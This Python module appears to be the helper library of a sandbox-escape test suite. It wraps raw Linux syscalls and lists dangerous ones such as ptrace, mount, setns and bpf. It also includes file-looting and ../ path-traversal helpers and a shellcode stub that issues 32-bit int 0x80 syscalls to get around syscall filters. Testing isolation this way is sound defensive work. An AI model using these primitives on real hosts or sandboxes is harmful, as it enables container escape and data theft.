"""What the attacks are made of: plain system calls. Standard library only, since it runs in every sandbox.

An attack prints what it got, and may `hold` what it gained so that it can be looked at from outside.
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
libc.syscall.restype = ctypes.c_long

# arch/x86/entry/syscalls/syscall_64.tbl
NUMBERS = {
    "ioctl": 16, "ptrace": 101, "personality": 135, "pivot_root": 155, "settimeofday": 164, "mount": 165,
    "umount2": 166, "swapon": 167, "sethostname": 170, "init_module": 175, "io_setup": 206, "clock_settime": 227,
    "add_key": 248, "request_key": 249, "keyctl": 250, "ioprio_set": 251, "unshare": 272, "perf_event_open": 298,
    "fanotify_init": 300, "prlimit64": 302, "name_to_handle_at": 303, "open_by_handle_at": 304, "setns": 308,
    "process_vm_readv": 310, "process_vm_writev": 311, "kcmp": 312, "finit_module": 313, "memfd_create": 319,
    "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430,
    "fsconfig": 431, "fsmount": 432, "pidfd_open": 434, "clone3": 435, "openat2": 437, "pidfd_getfd": 438,
    "mount_setattr": 442, "fchmodat2": 452,
}  # fmt: skip


def call(name: str, *arguments: Any) -> int:
    """One system call: its result, or OSError."""
    return number(NUMBERS[name], *arguments)


def number(what: int, *arguments: Any) -> int:
    done = libc.syscall(ctypes.c_long(what), *[_argument(one) for one in arguments])
    if done == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return int(done)


def _argument(value: Any) -> Any:
    if isinstance(value, int):
        return ctypes.c_ulong(value & (1 << 64) - 1)
    return value.encode() if isinstance(value, str) else value


def scene() -> dict[str, Any]:
    """What an attacker may know: paths, ports, numbers of processes; no secret."""
    return dict(json.loads(Path("scene.json").read_text()))


def say(*what: object) -> None:
    print(*what, flush=True)


def tell(content: bytes) -> None:
    os.write(1, content + b"\n")


def hold() -> None:
    """Keep what was gained until somebody has looked."""
    os.write(int(os.environ["HELD"]), b"h")
    time.sleep(600)


def each(*attempts: Callable[[], Any]) -> list[Any]:
    """Every attempt's result; those that are refused say so."""
    got = []
    for attempt in attempts:
        try:
            got.append(attempt())
        except (OSError, ValueError) as error:
            say(error)
    return got


def loot(path: str | Path) -> bytes:
    """Read a file and tell what is in it."""
    content = Path(path).read_bytes()[:4096]
    tell(content)
    return content


def climb(path: str) -> str:
    """`path` as seen from any folder below its root."""
    return "../" * 24 + path.lstrip("/")


def pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def descriptors() -> Iterator[int]:
    for fd in range(1024):
        try:
            os.fstat(fd)
        except OSError:
            continue
        yield fd


def compat(what: int, *arguments: int) -> int:
    """A 32-bit call of this 64-bit process, by int 0x80."""
    code = (
        b"\x53\x89\xf8\x89\xf3\x89\xd1\x31\xd2\x31\xf6\x31\xff"  # push rbx; eax, ebx, ecx = arguments; others 0
        b"\xcd\x80\x5b\xc3"  # int 0x80; pop rbx; ret
    )
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    first, second = (*arguments, 0, 0)[:2]
    return int(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(what, first, second))


def buffer(content: bytes) -> Any:
    return ctypes.create_string_buffer(content, len(content))


def iovec(address: int, length: int) -> Any:
    return buffer(struct.pack("QQ", address, length))
